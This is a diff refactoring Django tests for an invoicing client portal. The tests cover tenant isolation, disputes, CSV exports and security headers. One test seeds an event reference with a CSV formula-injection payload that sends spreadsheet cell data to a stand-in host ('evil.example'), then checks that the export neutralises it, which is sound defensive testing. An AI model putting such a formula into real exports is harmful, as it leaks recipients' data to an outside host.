@@ -2,24 +2,23 @@
 
 import csv
 import io
+from dataclasses import dataclass
 from datetime import date
 
 import pytest
 from django.test import Client as HttpClient
 from django.urls import reverse
 
-from tally.accounts.models import Role
+from tally.accounts.models import Role, User
 from tally.audit.actors import SystemActor
+from tally.clients.models import Client
 from tally.disputes.models import Dispute, DisputeMessage
 from tally.disputes.services import open_dispute
 from tally.internal_notes.services import add_internal_note
-from tests.factories import issued_invoice, make_user
+from tally.invoicing.models import Invoice
+from tests.factories import issued_invoice, make_client, make_user, pay, voided_invoice
 
 pytestmark = pytest.mark.django_db
-
-
-def number(invoice):
-    return f"INV-{invoice.number:06d}"
 
 
 @pytest.fixture
@@ -30,78 +29,74 @@ def acme_browser(acme):
     return browser
 
 
+@dataclass
+class Setup:
+    """Acme's clerk signed in (`browser`), an invoice of Acme's and one of Globex's."""
+
+    acme: Client
+    operator: User
+    user: User
+    browser: HttpClient
+    ours: Invoice
+    theirs: Invoice
+
+
 @pytest.fixture
-def setup(acme, globex, operator):
+def setup(acme, globex, operator) -> Setup:
     ours = issued_invoice(acme, picks=12, labels=3, issue_date=date(2026, 11, 1))
     theirs = issued_invoice(globex, picks=7, issue_date=date(2026, 11, 1))
     user = make_user(role=Role.CLIENT_USER, client=acme, email="ap@acme.example")
     browser = HttpClient()
     browser.force_login(user)
-    return {
-        "ours": ours,
-        "theirs": theirs,
-        "user": user,
-        "browser": browser,
-        "acme": acme,
-        "operator": operator,
-    }
+    return Setup(acme=acme, operator=operator, user=user, browser=browser, ours=ours, theirs=theirs)
 
 
 def test_the_billing_page_shows_cards_and_the_clients_invoices_only(setup):
-    response = setup["browser"].get("/")
+    response = setup.browser.get("/")
     html = response.content.decode()
     assert response.status_code == 200
-    assert number(setup["ours"]) in html and number(setup["theirs"]) not in html
+    assert setup.ours.display_number in html and setup.theirs.display_number not in html
     assert "Total outstanding" in html and "$4.34" in html  # 12 × 0.35 + 3 × 0.045 = 4.335 → 4.34
     assert 'aria-sort="descending"' in html
     assert response.headers["Cache-Control"] == "private, no-store"
 
 
 def test_every_url_of_another_clients_invoice_is_a_404(setup):
-    theirs = number(setup["theirs"])
-    line = setup["theirs"].lines.first().pk
+    theirs = setup.theirs.display_number
+    line = setup.theirs.lines.first().pk
     urls = [
         reverse("portal:invoice", args=[theirs]),
         reverse("portal:invoice_pdf", args=[theirs]),
         reverse("portal:line_events", args=[theirs, line]),
         reverse("portal:line_events_csv", args=[theirs, line]),
-        reverse("portal:line_events", args=[number(setup["ours"]), line]),
+        reverse("portal:line_events", args=[setup.ours.display_number, line]),
     ]
     for url in urls:
-        assert setup["browser"].get(url).status_code == 404, url
-    response = setup["browser"].post(
-        reverse("portal:dispute", args=[theirs]), {"reason": "not mine"}
-    )
+        assert setup.browser.get(url).status_code == 404, url
+    response = setup.browser.post(reverse("portal:dispute", args=[theirs]), {"reason": "not mine"})
     assert response.status_code == 404
     assert not Dispute.objects.exists()
 
 
 def test_a_draft_voided_before_it_was_issued_is_nowhere_in_the_portal(setup):
-    from tally.actions.invoices import void_invoice
-    from tally.invoicing.services import generate_draft_invoice
-    from tests.factories import add_events
-
-    add_events(setup["acme"], "pick", 3, day=date(2026, 12, 3))
-    draft = generate_draft_invoice(
-        actor=SystemActor.TESTS,
-        client=setup["acme"],
-        period_start=date(2026, 12, 1),
-        period_end=date(2026, 12, 31),
-    ).invoice
-    void_invoice(
-        actor=SystemActor.TESTS, client=setup["acme"], invoice_id=draft.pk, reason="wrong period"
+    draft = voided_invoice(
+        setup.acme,
+        issued=False,
+        picks=3,
+        period=(date(2026, 12, 1), date(2026, 12, 31)),
+        reason="wrong period",
     )
-    browser = setup["browser"]
+    browser = setup.browser
     for query in ("", "?status=void", "?sort=issue_date&direction=asc"):
         page = browser.get("/" + query)
         assert page.status_code == 200, query
         assert "INV-000000" not in page.content.decode() and "None" not in page.content.decode()
     download = b"".join(browser.get("/invoices.csv").streaming_content).decode()
     rows = list(csv.reader(io.StringIO(download)))
-    assert [row[0] for row in rows[1:]] == [number(setup["ours"])]
+    assert [row[0] for row in rows[1:]] == [setup.ours.display_number]
     line = draft.lines.first().pk
     for url in (
-        reverse("portal:line_events", args=[number(setup["ours"]), line]),
+        reverse("portal:line_events", args=[setup.ours.display_number, line]),
         reverse("portal:line_events", args=["INV-000000", line]),
         reverse("portal:invoice", args=["INV-000000"]),
     ):
@@ -110,54 +105,56 @@ def test_a_draft_voided_before_it_was_issued_is_nowhere_in_the_portal(setup):
 
 def test_a_line_is_found_only_under_its_own_invoice(setup):
     """The client's own line, addressed through another of their invoices, is a 404 too."""
-    other = issued_invoice(setup["acme"], picks=2, issue_date=date(2026, 11, 8))
-    line = setup["ours"].lines.first().pk
-    browser = setup["browser"]
+    other = issued_invoice(setup.acme, picks=2, issue_date=date(2026, 11, 8))
+    line = setup.ours.lines.first().pk
+    browser = setup.browser
     assert (
-        browser.get(reverse("portal:line_events", args=[number(setup["ours"]), line])).status_code
+        browser.get(
+            reverse("portal:line_events", args=[setup.ours.display_number, line])
+        ).status_code
         == 200
     )
     for name in ("portal:line_events", "portal:line_events_csv"):
-        assert browser.get(reverse(name, args=[number(other), line])).status_code == 404, name
+        assert browser.get(reverse(name, args=[other.display_number, line])).status_code == 404, (
+            name
+        )
 
 
 def test_without_javascript_the_open_parameter_expands_a_row(setup):
-    html = setup["browser"].get("/", {"open": number(setup["ours"])}).content.decode()
+    html = setup.browser.get("/", {"open": setup.ours.display_number}).content.decode()
     assert 'aria-expanded="true"' in html and "Line items" in html and "Balance due" in html
 
 
 def test_htmx_gets_the_table_alone_and_the_drilldown_alone(setup):
-    table = setup["browser"].get(
+    table = setup.browser.get(
         "/", {"status": "open"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="invoice-table"
     )
     assert "<table" in table.content.decode() and "Total outstanding" not in table.content.decode()
     assert "HX-Request" in table.headers["Vary"]
-    detail = setup["browser"].get(
-        reverse("portal:invoice", args=[number(setup["ours"])]), HTTP_HX_REQUEST="true"
+    detail = setup.browser.get(
+        reverse("portal:invoice", args=[setup.ours.display_number]), HTTP_HX_REQUEST="true"
     )
     body = detail.content.decode()
     assert "Line items" in body and "<html" not in body
 
 
 def test_filters_with_bad_input_show_the_error_and_keep_the_rest(setup):
-    html = (
-        setup["browser"].get("/", {"issued_from": "not-a-date", "status": "open"}).content.decode()
-    )
+    html = setup.browser.get("/", {"issued_from": "not-a-date", "status": "open"}).content.decode()
     assert "Enter a valid date" in html
-    assert number(setup["ours"]) in html
+    assert setup.ours.display_number in html
 
 
 def test_an_amount_filter_with_too_many_decimals_says_so_in_plain_words(setup):
-    html = setup["browser"].get("/", {"amount_min": "1.234"}).content.decode()
+    html = setup.browser.get("/", {"amount_min": "1.234"}).content.decode()
     assert "Enter the amount in USD with at most 2 decimals, like 120.50." in html
     assert "Decimal(" not in html
-    assert number(setup["ours"]) in html  # the filter is ignored, the table still shown
+    assert setup.ours.display_number in html  # the filter is ignored, the table still shown
 
 
 def test_a_client_opens_a_dispute_and_posts_a_message_but_never_sees_internal_notes(setup):
-    ours = number(setup["ours"])
-    line = setup["ours"].lines.get(kind="label")
-    response = setup["browser"].post(
+    ours = setup.ours.display_number
+    line = setup.ours.lines.get(kind="label")
+    response = setup.browser.post(
         reverse("portal:dispute", args=[ours]),
         {"reason": "Labels double-counted", "amount": "0.14", "lines": [line.pk]},
     )
@@ -168,47 +165,47 @@ def test_a_client_opens_a_dispute_and_posts_a_message_but_never_sees_internal_no
         [line.pk],
     )
     add_internal_note(
-        actor=setup["operator"], dispute_id=dispute.pk, body="INTERNAL: client is right, credit it"
+        actor=setup.operator, dispute_id=dispute.pk, body="INTERNAL: client is right, credit it"
     )
-    setup["browser"].post(reverse("portal:message", args=[ours, dispute.pk]), {"body": "Any news?"})
+    setup.browser.post(reverse("portal:message", args=[ours, dispute.pk]), {"body": "Any news?"})
     assert DisputeMessage.objects.filter(dispute=dispute, author_side="client").count() == 2
-    page = setup["browser"].get(reverse("portal:invoice", args=[ours])).content.decode()
+    page = setup.browser.get(reverse("portal:invoice", args=[ours])).content.decode()
     assert "Any news?" in page and "Labels double-counted" in page
     assert "INTERNAL" not in page
     assert "Paused while disputed" in page
 
 
 def test_an_invalid_dispute_shows_errors_and_writes_nothing(setup):
-    ours = number(setup["ours"])
-    response = setup["browser"].post(
+    ours = setup.ours.display_number
+    response = setup.browser.post(
         reverse("portal:dispute", args=[ours]), {"reason": "", "amount": "999999"}
     )
     assert response.status_code == 422
     assert "Tell us what is wrong with this invoice." in response.content.decode()
     assert not Dispute.objects.exists()
-    response = setup["browser"].post(
+    response = setup.browser.post(
         reverse("portal:dispute", args=[ours]), {"reason": "too much", "amount": "999"}
     )
     assert response.status_code == 422 and not Dispute.objects.exists()
 
 
 def test_state_changes_need_post_and_pages_need_get(setup):
-    ours = number(setup["ours"])
-    assert setup["browser"].get(reverse("portal:dispute", args=[ours])).status_code == 405
-    assert setup["browser"].post(reverse("portal:invoice", args=[ours])).status_code == 405
+    ours = setup.ours.display_number
+    assert setup.browser.get(reverse("portal:dispute", args=[ours])).status_code == 405
+    assert setup.browser.post(reverse("portal:invoice", args=[ours])).status_code == 405
 
 
 def test_csv_of_invoices_and_of_a_lines_events(setup):
     rows = list(
         csv.reader(
-            io.StringIO(b"".join(setup["browser"].get("/invoices.csv").streaming_content).decode())
+            io.StringIO(b"".join(setup.browser.get("/invoices.csv").streaming_content).decode())
         )
     )
     assert rows[0][:3] == ["number", "issue_date", "due_date"]
-    assert [r[0] for r in rows[1:]] == [number(setup["ours"])]
-    line = setup["ours"].lines.get(kind="pick")
-    response = setup["browser"].get(
-        reverse("portal:line_events_csv", args=[number(setup["ours"]), line.pk])
+    assert [r[0] for r in rows[1:]] == [setup.ours.display_number]
+    line = setup.ours.lines.get(kind="pick")
+    response = setup.browser.get(
+        reverse("portal:line_events_csv", args=[setup.ours.display_number, line.pk])
     )
     events = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert events[0] == ["occurred_at", "kind", "reference", "quantity", "details"]
@@ -222,16 +219,16 @@ def test_the_invoices_csv_of_an_aging_bucket_lists_what_the_page_lists(acme, acm
     )
     query = {"bucket": "over_90", "as_of": "2026-12-15"}
     html = acme_browser.get("/", query).content.decode()
-    assert number(old) in html and number(recent) not in html
+    assert old.display_number in html and recent.display_number not in html
     download = b"".join(acme_browser.get(reverse("portal:invoices_csv"), query).streaming_content)
     rows = list(csv.reader(io.StringIO(download.decode())))
-    assert [row[0] for row in rows[1:]] == [number(old)]
+    assert [row[0] for row in rows[1:]] == [old.display_number]
 
 
 def test_aging_page_and_csv(setup):
-    html = setup["browser"].get(reverse("portal:aging"), {"as_of": "2026-12-15"}).content.decode()
+    html = setup.browser.get(reverse("portal:aging"), {"as_of": "2026-12-15"}).content.decode()
     assert "1–30 days" in html and "$4.34" in html
-    response = setup["browser"].get(reverse("portal:aging_csv"), {"as_of": "2026-12-15"})
+    response = setup.browser.get(reverse("portal:aging_csv"), {"as_of": "2026-12-15"})
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert rows[2] == ["2026-12-15", "1–30 days", "1", "4.34", "USD"]
     assert rows[-1][1:3] == ["Total", "1"]
@@ -242,13 +239,13 @@ def test_operators_and_strangers_do_not_get_the_portal(setup):
     assert anonymous.get("/").status_code == 302
     assert anonymous.get(reverse("portal:aging"))["Location"].startswith("/accounts/login/")
     ops = HttpClient()
-    ops.force_login(setup["operator"])
+    ops.force_login(setup.operator)
     assert ops.get("/")["Location"] == "/admin/"
     assert ops.get(reverse("portal:aging")).status_code == 404
 
 
 def test_security_headers_are_set(setup):
-    response = setup["browser"].get("/")
+    response = setup.browser.get("/")
     assert "default-src 'self'" in response.headers["Content-Security-Policy"]
     assert response.headers["X-Frame-Options"] == "DENY"
     assert response.headers["X-Content-Type-Options"] == "nosniff"
@@ -256,13 +253,13 @@ def test_security_headers_are_set(setup):
 
 def test_a_dispute_opened_elsewhere_shows_up_with_its_conversation(setup):
     open_dispute(
-        actor=setup["user"],
-        client=setup["acme"],
-        invoice_id=setup["ours"].pk,
+        actor=setup.user,
+        client=setup.acme,
+        invoice_id=setup.ours.pk,
         reason="Opened by API",
     )
-    html = setup["browser"].get("/", {"status": "disputed"}).content.decode()
-    assert number(setup["ours"]) in html
+    html = setup.browser.get("/", {"status": "disputed"}).content.decode()
+    assert setup.ours.display_number in html
 
 
 def test_each_client_sees_its_own_header_and_an_edit_shows_once_the_cache_lapses(
@@ -275,17 +272,15 @@ def test_each_client_sees_its_own_header_and_an_edit_shows_once_the_cache_lapses
     theirs = make_user(role=Role.CLIENT_USER, client=globex, email="ap@globex.example")
     other = HttpClient()
     other.force_login(theirs)
-    assert f"<h1>{setup['acme'].name} " in setup["browser"].get("/").content.decode()
+    assert f"<h1>{setup.acme.name} " in setup.browser.get("/").content.decode()
     assert f"<h1>{globex.name} " in other.get("/").content.decode()  # cached apart
-    type(setup["acme"]).objects.filter(pk=setup["acme"].pk).update(name="Acme Renamed Ltd")
-    assert f"<h1>{setup['acme'].name} " in setup["browser"].get("/").content.decode()
+    type(setup.acme).objects.filter(pk=setup.acme.pk).update(name="Acme Renamed Ltd")
+    assert f"<h1>{setup.acme.name} " in setup.browser.get("/").content.decode()
     clock[0] += access.HEADER_SECONDS + 1
-    assert "<h1>Acme Renamed Ltd " in setup["browser"].get("/").content.decode()
+    assert "<h1>Acme Renamed Ltd " in setup.browser.get("/").content.decode()
 
 
 def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme, acme_browser):
-    from tally.actions.invoices import issue_invoice
-    from tally.invoicing.services import generate_draft_invoice
     from tally.operations.services import ingest_events
     from tests.factories import event_rows
 
@@ -293,17 +288,9 @@ def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme,
     rows[0]["reference"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     rows[1]["reference"] = "-2+3"
     ingest_events(actor=SystemActor.TESTS, client=acme, rows=rows)
-    draft = generate_draft_invoice(
-        actor=SystemActor.TESTS,
-        client=acme,
-        period_start=date(2026, 10, 1),
-        period_end=date(2026, 10, 31),
-    ).invoice
-    invoice = issue_invoice(
-        actor=SystemActor.TESTS, client=acme, invoice_id=draft.pk, issue_date=date(2026, 11, 1)
-    )
+    invoice = issued_invoice(acme, picks=0)  # October's events, issued 1 November
     response = acme_browser.get(
-        reverse("portal:line_events_csv", args=[number(invoice), invoice.lines.get().pk])
+        reverse("portal:line_events_csv", args=[invoice.display_number, invoice.lines.get().pk])
     )
     events = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert sorted(r[2] for r in events[1:]) == [
@@ -322,11 +309,11 @@ def test_a_reference_that_a_spreadsheet_would_run_opens_as_text_in_the_csv(acme,
     ],
 )
 def test_an_absurd_amount_filter_is_a_field_error_not_a_hang(setup, query):
-    response = setup["browser"].get(f"/?{query}")
+    response = setup.browser.get(f"/?{query}")
     html = response.content.decode()
     assert response.status_code == 200
     assert 'aria-invalid="true"' in html or "errorlist" in html
-    assert number(setup["ours"]) in html  # the table still shows, unfiltered
+    assert setup.ours.display_number in html  # the table still shows, unfiltered
 
 
 @pytest.mark.parametrize(
@@ -342,9 +329,9 @@ def test_a_tampered_table_cursor_starts_from_the_top(setup, position):
     import base64
 
     cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
-    response = setup["browser"].get(f"/?sort=amount&cursor={cursor}")
+    response = setup.browser.get(f"/?sort=amount&cursor={cursor}")
     assert response.status_code == 200
-    assert number(setup["ours"]) in response.content.decode()
+    assert setup.ours.display_number in response.content.decode()
 
 
 @pytest.mark.parametrize(
@@ -358,21 +345,21 @@ def test_a_tampered_table_cursor_starts_from_the_top(setup, position):
 def test_a_tampered_events_cursor_starts_from_the_first_event(setup, position):
     import base64
 
-    line = setup["ours"].lines.get(kind="pick")
+    line = setup.ours.lines.get(kind="pick")
     cursor = base64.urlsafe_b64encode(position.encode()).decode().rstrip("=")
-    url = reverse("portal:line_events", args=[number(setup["ours"]), line.pk])
-    response = setup["browser"].get(f"{url}?cursor={cursor}")
+    url = reverse("portal:line_events", args=[setup.ours.display_number, line.pk])
+    response = setup.browser.get(f"{url}?cursor={cursor}")
     assert response.status_code == 200
     assert response.content.decode().count("REF-") == 12
 
 
 def test_opening_a_missing_or_foreign_invoice_keeps_the_page_and_says_so(setup):
-    for number_asked in ("INV-999999", number(setup["theirs"])):
-        response = setup["browser"].get(f"/?open={number_asked}")
+    for number_asked in ("INV-999999", setup.theirs.display_number):
+        response = setup.browser.get(f"/?open={number_asked}")
         html = response.content.decode()
         assert response.status_code == 200
         assert f"There is no invoice {number_asked} to open." in html
-        assert number(setup["ours"]) in html  # the billing page itself is all there
+        assert setup.ours.display_number in html  # the billing page itself is all there
 
 
 @pytest.mark.parametrize(
@@ -385,8 +372,8 @@ def test_opening_a_missing_or_foreign_invoice_keeps_the_page_and_says_so(setup):
     ],
 )
 def test_a_dispute_amount_that_will_not_do_says_so_in_plain_words(setup, amount, message):
-    ours = number(setup["ours"])
-    response = setup["browser"].post(
+    ours = setup.ours.display_number
+    response = setup.browser.post(
         reverse("portal:dispute", args=[ours]), {"reason": "Too many picks", "amount": amount}
     )
     assert response.status_code == 422
@@ -395,7 +382,7 @@ def test_a_dispute_amount_that_will_not_do_says_so_in_plain_words(setup, amount,
 
 
 def test_a_filter_range_given_backwards_names_both_ends(setup):
-    html = setup["browser"].get("/?issued_from=2026-11-02&issued_to=2026-11-01").content.decode()
+    html = setup.browser.get("/?issued_from=2026-11-02&issued_to=2026-11-01").content.decode()
     assert "“Issued to” must not be before “Issued from”." in html
 
 
@@ -411,21 +398,17 @@ def test_the_table_says_how_late_an_unpaid_invoice_is(acme, acme_browser):
 
 
 def test_the_invoices_headings_follow_the_page_they_sit_in(setup):
-    ours = number(setup["ours"])
-    page = setup["browser"].get(reverse("portal:invoice", args=[ours])).content.decode()
+    ours = setup.ours.display_number
+    page = setup.browser.get(reverse("portal:invoice", args=[ours])).content.decode()
     # Its own page: h1, then the invoice h2 and its sections h3 — no level skipped.
     assert "<h1>" in page and f"<h2>{ours} <span" in page and "<h3>Line items</h3>" in page
-    billing = setup["browser"].get(f"/?open={ours}").content.decode()
+    billing = setup.browser.get(f"/?open={ours}").content.decode()
     assert f"<h3>{ours} <span" in billing and "<h4>Line items</h4>" in billing  # under Invoices
-    drilldown = (
-        setup["browser"]
-        .get(
-            reverse("portal:invoice", args=[ours]),
-            HTTP_HX_REQUEST="true",
-            HTTP_HX_CURRENT_URL="http://testserver/?status=open",
-        )
-        .content.decode()
-    )
+    drilldown = setup.browser.get(
+        reverse("portal:invoice", args=[ours]),
+        HTTP_HX_REQUEST="true",
+        HTTP_HX_CURRENT_URL="http://testserver/?status=open",
+    ).content.decode()
     assert f"<h3>{ours} <span" in drilldown
 
 
@@ -447,39 +430,26 @@ def test_a_filtered_table_says_how_many_invoices_match_and_what_they_leave_unpai
 def test_an_unpaid_invoice_says_how_to_pay_in_its_currency_and_a_paid_one_does_not(
     acme, acme_browser, settings
 ):
-    from tally.actions.payments import record_payment
-
     settings.TALLY_PAYMENT_INSTRUCTIONS = "ACH: Harbor 3PL, routing 021000021"
     settings.TALLY_PAYMENT_INSTRUCTIONS_BY_CURRENCY = {"EUR": "SEPA: IBAN NL91 ABNA 0417 1643 00"}
     unpaid = issued_invoice(acme, picks=4)
     paid = issued_invoice(acme, picks=2, period=(date(2026, 9, 1), date(2026, 9, 30)))
-    record_payment(
-        actor=SystemActor.TESTS,
-        client=acme,
-        amount_minor=paid.total_minor,
-        currency="USD",
-        received_on=date(2026, 11, 10),
-        method="ach",
-        idempotency_key="paid-in-full",
-        allocations=[(paid.pk, paid.total_minor)],
-    )
+    pay(acme, paid.total_minor, invoice=paid, received_on=date(2026, 11, 10))
 
     def drilldown(invoice):
-        url = reverse("portal:invoice", args=[number(invoice)])
+        url = reverse("portal:invoice", args=[invoice.display_number])
         return acme_browser.get(url, HTTP_HX_REQUEST="true").content.decode()
 
     html = drilldown(unpaid)
     assert "How to pay" in html and "ACH: Harbor 3PL, routing 021000021" in html
-    assert f"Please quote {number(unpaid)} with your payment." in html
+    assert f"Please quote {unpaid.display_number} with your payment." in html
     assert "IBAN" not in html
     assert "How to pay" not in drilldown(paid)
-
-    from tests.factories import make_client
 
     berlin = make_client("berlin", currency="EUR")
     euro = issued_invoice(berlin, picks=4)
     berlin_browser = HttpClient()
     berlin_browser.force_login(make_user(role=Role.CLIENT_USER, client=berlin))
-    url = reverse("portal:invoice", args=[number(euro)])
+    url = reverse("portal:invoice", args=[euro.display_number])
     html = berlin_browser.get(url, HTTP_HX_REQUEST="true").content.decode()
     assert "SEPA: IBAN NL91 ABNA 0417 1643 00" in html and "routing" not in html
